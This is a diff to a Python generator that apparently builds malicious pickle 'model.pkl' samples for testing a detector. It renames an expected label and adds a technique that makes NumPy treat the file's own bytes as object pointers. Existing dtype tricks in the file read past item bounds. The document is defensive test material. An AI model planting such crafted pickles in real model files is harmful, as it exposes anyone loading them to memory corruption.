@@ -487,7 +487,7 @@ def attribute_dict_build(m: Path) -> bytes:
 
 # --- NumPy dtype states NumPy never writes (no code runs: NumPy reads bytes as pointers) ------
 
-NUMPY_DTYPE = "PICKLE-NUMPY-DTYPE"
+NUMPY_MEMORY = "PICKLE-NUMPY-MEMORY"
 
 
 def _dtype(name: str, state: bytes | None = None) -> bytes:
@@ -513,7 +513,7 @@ def _struct_i8_and_object(flags: int) -> bytes:
 
 
 @technique(
-    "numpy-dtype-object-flags-cleared", family="pickle", filename="model.pkl", expect=NUMPY_DTYPE
+    "numpy-dtype-object-flags-cleared", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
 )
 def numpy_dtype_lie(m: Path) -> bytes:
     """A structured dtype with an object field whose state clears the object flags, then
@@ -523,7 +523,9 @@ def numpy_dtype_lie(m: Path) -> bytes:
     return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)
 
 
-@technique("numpy-dtype-field-past-item", family="pickle", filename="model.pkl", expect=NUMPY_DTYPE)
+@technique(
+    "numpy-dtype-field-past-item", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
+)
 def numpy_dtype_past_item(m: Path) -> bytes:
     """A 8-byte struct whose int64 field sits at offset 4: every read runs past the item."""
     i8 = _dtype("i8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
@@ -532,6 +534,15 @@ def numpy_dtype_past_item(m: Path) -> bytes:
     dtype = _dtype("V8", _dtype_state("|", names, fields, 8, 16))
     args = MARK + binbytes(bytes(8)) + dtype + MARK + binint(1) + TUPLE + uni("C")
     return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)
+
+
+@technique("numpy-ndarray-over-bytes", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY)
+def numpy_ndarray_over_bytes(m: Path) -> bytes:
+    """numpy.ndarray((1,), dtype('O'), buffer): an object array over the file's own bytes
+    (numpy.frombuffer refuses this; the constructor does not): NumPy follows the pointers."""
+    o8 = _dtype("O8", MARK + binint(3) + uni("|") + b"NNN" + binint(-1) * 2 + binint(63) + TUPLE)
+    shape = MARK + binint(1) + TUPLE
+    return program(call(glob("numpy", "ndarray"), shape, o8, binbytes(b"A" * 8)))
 
 
 # --- Broken streams ---------------------------------------------------------------------------
